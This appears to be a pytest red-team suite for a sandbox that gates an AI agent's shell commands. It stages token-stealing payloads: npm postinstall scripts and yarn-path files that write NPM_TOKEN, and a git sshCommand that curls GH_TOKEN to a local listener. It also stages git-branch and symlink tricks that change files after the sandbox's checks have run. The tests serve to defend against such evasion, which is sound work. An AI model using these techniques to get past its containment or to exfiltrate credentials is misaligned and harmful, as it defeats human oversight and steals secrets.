"""Red team 42: parts beside a networked one that change, during the run, what the checks
read when the box was planned (6d588f0): git's work-tree writers before `npm ci` or `yarn
install` (a branch's `postinstall`, a `yarnPath`), a link a branch checks out or a part
copies leading a later write into `.git`, a `.git` file made beside `git fetch`; and a git
setting naming a file in the networked box's own, empty, temp dir (a false ask). Each test
asserts the safe (or working) outcome and fails on 6d588f0.

The sandboxes of networked runs are outside the temp dirs (``apart``), where an operator's
project is: a tree in a temp dir makes them run offline.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

Sandbox = Any  # the fixture's class lives in conftest.py, which test modules cannot import
pytestmark = pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
needs_git = pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
needs_npm = pytest.mark.skipif(shutil.which("npm") is None or shutil.which("node") is None,
                               reason="needs npm and node")
needs_yarn = pytest.mark.skipif(shutil.which("yarn") is None, reason="needs yarn (v1)")
TOKEN = "tok_redteam42_literal"


def _git(work: Path, *args: str) -> None:
    subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@b", *args], cwd=work,
                   check=True, capture_output=True)


def _on_a_branch(work: Path) -> None:
    """Commit what is there on ``main``, and go on on a branch ``evil``."""
    _git(work, "add", "-A")
    _git(work, "commit", "-qm", "init")
    _git(work, "checkout", "-qb", "evil")


def _back_on_main(work: Path) -> None:
    """Commit what the branch ``evil`` holds now, and check ``main`` out again."""
    _git(work, "add", "-A")
    _git(work, "commit", "-qm", "evil")
    _git(work, "checkout", "-q", "main")


def _repository(work: Path) -> None:
    _git(work, "init", "-q", "-b", "main")
    _git(work, "remote", "add", "origin", "git@127.0.0.1:o/r.git")
    _git(work, "config", "user.name", "a")  # a commit in the box (cherry-pick) needs one
    _git(work, "config", "user.email", "a@b")


def _checked(sandbox: Sandbox, command: str, env: dict[str, str] | None = None
             ) -> dict[str, Any]:
    document: dict[str, Any] = json.loads(
        sandbox.gatekeep("check", "--json", "-c", command, env=env).stdout)
    return document


_LOCK = {"name": "x", "version": "1.0.0", "lockfileVersion": 3, "requires": True,
         "packages": {"": {"name": "x", "version": "1.0.0"}}}


def _postinstall(leak: Path) -> dict[str, Any]:
    script = (f"node -e \"require('fs').writeFileSync('{leak}', "
              "'NPM='+process.env.NPM_TOKEN)\"")
    return {"name": "x", "version": "1.0.0", "scripts": {"postinstall": script}}


def _npm_project(work: Path, leak: Path) -> None:
    """main: a package.json without scripts (npm ci gets the network); branch `evil`:
    the same with a postinstall that writes NPM_TOKEN into the tree."""
    _repository(work)
    (work / "package.json").write_text(json.dumps({"name": "x", "version": "1.0.0"}))
    (work / "package-lock.json").write_text(json.dumps(_LOCK))
    _on_a_branch(work)
    (work / "package.json").write_text(json.dumps(_postinstall(leak)))
    _git(work, "commit", "-qam", "evil")
    _git(work, "diff", "main", "evil", "--output", str(work / "evil.diff"))
    _git(work, "checkout", "-q", "main")


def _no_token(leak: Path) -> None:
    assert not leak.exists() or TOKEN not in leak.read_text(), leak.read_text()


# -- 1. git's own work-tree writers: what they write is known only when they run --------

@needs_git
@needs_npm
@pytest.mark.parametrize("writer", ["git switch evil", "git merge --ff-only evil",
                                    "git cherry-pick evil", "git apply evil.diff",
                                    "git checkout -b other evil"])
def test_a_git_writer_before_npm_ci_cannot_bring_install_scripts(apart: Sandbox,
                                                                  writer: str) -> None:
    """`git switch evil && npm ci`: gatekeep reads package.json when the box is planned
    (no scripts: npm ci gets the network and NPM_TOKEN); git then checks out the branch
    whose package.json has a postinstall, and npm runs it with both."""
    leak = apart.work / "leak"
    _npm_project(apart.work, leak)
    command = f"{writer} && npm ci"
    apart.gatekeep("run", "-c", command, env={"NPM_TOKEN": TOKEN}, timeout=120)
    _no_token(leak)


@needs_git
@needs_yarn
def test_a_branch_switch_before_yarn_cannot_bring_a_yarn_path(apart: Sandbox) -> None:
    """`.yarnrc` (`yarn-path`) is one of yarn's code files, read when the box is planned:
    a branch that adds one makes `yarn install` run the agent's JavaScript with NPM_TOKEN."""
    work = apart.work
    leak = work / "leak"
    _repository(work)
    (work / "package.json").write_text(json.dumps({"name": "x", "version": "1.0.0",
                                                   "license": "MIT"}))
    (work / "yarn.lock").write_text("# yarn lockfile v1\n\n\n")
    _on_a_branch(work)
    (work / ".yarnrc").write_text('yarn-path "./evil.js"\n')
    (work / "evil.js").write_text(
        f"require('fs').writeFileSync('{leak}', 'NPM='+process.env.NPM_TOKEN)\n")
    _back_on_main(work)
    apart.gatekeep("run", "-c", "git switch evil && yarn install --frozen-lockfile",
                   env={"NPM_TOKEN": TOKEN}, timeout=120)
    _no_token(leak)


# -- 2. a link made or moved by one part, written through by the next -------------------

def _common_dir(work: Path, leak: Path) -> None:
    """A git dir's common part in a hidden directory of the tree (the scans do not look
    there): its config runs a command that writes GH_TOKEN into the tree."""
    common = work / ".cdir"
    for name in ("objects", "refs"):
        (common / name).mkdir(parents=True, exist_ok=True)
        (common / name / ".keep").write_text("")
    (common / "config").write_text(
        f"[core]\n\tsshCommand = sh -c 'echo ran $GH_TOKEN >> {leak}'\n"
        '[remote "origin"]\n\turl = git@127.0.0.1:o/r.git\n')
    (work / "cd.txt").write_text("../.cdir\n")


@needs_git
def test_a_link_a_branch_checks_out_cannot_lead_a_write_into_git(apart: Sandbox) -> None:
    """`git switch evil && cp cd.txt lnk/commondir && git fetch`: `lnk -> .git` is a link
    the branch holds; when the box is planned lnk is not there, so the cp names no
    protected path; git fetch then obeys the agent's config."""
    work = apart.work
    leak = work / "leak"
    _repository(work)
    (work / "README").write_text("hi\n")
    _on_a_branch(work)
    (work / "lnk").symlink_to(".git")
    _common_dir(work, leak)
    _back_on_main(work)
    apart.gatekeep("run", "-c", "git switch evil && cp cd.txt lnk/commondir && git fetch",
                   env={"GH_TOKEN": TOKEN}, timeout=120)
    _no_token(leak)


@needs_git
@pytest.mark.parametrize("command", [
    # a link copied as a link (`;`: the shell's redirect writes through a dangling link,
    # GNU cp does not)
    "cp -a s2 x; echo ../.cdir > x; git fetch",
    "cp -d s2 x; cat cd.txt > x; git fetch",
    "cp -P s2 x; tee x < cd.txt; git fetch",
    "mv d y && cp cd.txt y/g/commondir && git fetch",    # a directory holding a link
    "cp -a d y && cp cd.txt y/g/commondir && git fetch",
])
def test_a_copied_or_moved_link_cannot_lead_a_write_into_git(apart: Sandbox,
                                                             command: str) -> None:
    """Links the tree holds (`s2 -> .git/commondir`, `d/g -> ../.git`; a `git apply` or
    `git switch` before made them, offline): a write through them is denied, but a copy
    or a move of them, made by a part of the same command, is a name that does not exist
    when the box is planned."""
    work = apart.work
    leak = work / "leak"
    _repository(work)
    _common_dir(work, leak)
    (work / "s2").symlink_to(".git/commondir")
    (work / "d").mkdir()
    (work / "d" / "g").symlink_to("../.git")
    apart.gatekeep("run", "-c", command, env={"GH_TOKEN": TOKEN}, timeout=120)
    _no_token(leak)
    assert not (work / ".git" / "commondir").exists()


@needs_git
@needs_npm
def test_a_copied_link_cannot_rewrite_package_json(apart: Sandbox) -> None:
    """`pj -> package.json` (`ln -s package.json pj` is allowed): `cp evil.json pj &&
    npm ci` is asked (written code), `cp -a pj y && cp evil.json y && npm ci` is not."""
    work = apart.work
    leak = work / "leak"
    _npm_project(work, leak)
    (work / "evil.json").write_text(json.dumps(_postinstall(leak)))
    (work / "pj").symlink_to("package.json")
    apart.gatekeep("run", "-c", "cp -a pj y && cp evil.json y && npm ci",
                   env={"NPM_TOKEN": TOKEN}, timeout=120)
    _no_token(leak)


# -- 3. a repository's `.git` made by a part of the same command -------------------------

@needs_git
@pytest.mark.skipif(shutil.which("curl") is None, reason="needs curl")
@pytest.mark.parametrize("maker", ["echo 'gitdir: ../.stash/ev/.git' > sub/.git",
                                   "cp -r .stash/ev/.git sub/.git"])
def test_a_git_file_written_beside_the_fetch_is_a_nested_repository(
        apart: Sandbox, listener: tuple[int, list[bytes]], maker: str) -> None:
    """`cd sub && git fetch` obeys the tree's own repository when the box is planned; a
    `.git` written into sub by the part before (a named write: the nested-repository check
    reads the file system only) makes git obey the agent's repository, kept in a hidden
    directory, whose sshCommand sends GH_TOKEN to a listener."""
    port, got = listener
    work = apart.work
    _repository(work)
    (work / "sub").mkdir()
    evil = work / ".stash" / "ev"
    evil.mkdir(parents=True)
    _git(evil, "init", "-q")
    with open(evil / ".git" / "config", "a", encoding="utf-8") as config:
        config.write(f"[core]\n\tsshCommand = sh -c 'curl -s -m 5 "
                     f"http://127.0.0.1:{port}/$GH_TOKEN'\n"
                     '[remote "origin"]\n\turl = git@127.0.0.1:o/r.git\n')
    apart.gatekeep("run", "-c", f"{maker} && cd sub && git fetch", env={"GH_TOKEN": TOKEN},
                   timeout=120)
    assert not any(TOKEN.encode() in sent for sent in got), got


# -- 4. false asks: a temp dir a networked box has of its own ---------------------------

@needs_git
@pytest.mark.parametrize("setting", [
    "[core]\n\tsshCommand = ssh -o ControlMaster=auto -o ControlPath=/tmp/ssh-%r@%h:%p\n",
    "[credential]\n\thelper = cache --timeout=3600 --socket=/tmp/git-cred.sock\n"])
def test_a_setting_naming_a_temp_file_is_no_program_of_the_agents(apart: Sandbox,
                                                                  setting: str) -> None:
    """A networked box gets empty temp dirs of its own: an ssh control socket or a
    credential cache's socket there is none the agent made, yet every `git fetch` is
    asked (GIT_RUNS)."""
    _repository(apart.work)
    (apart.home / ".gitconfig").write_text(setting)
    boundary = _checked(apart, "git fetch")["boundary"]
    assert boundary["network"] is True
    assert boundary["status"] == "boxed", boundary.get("reason")
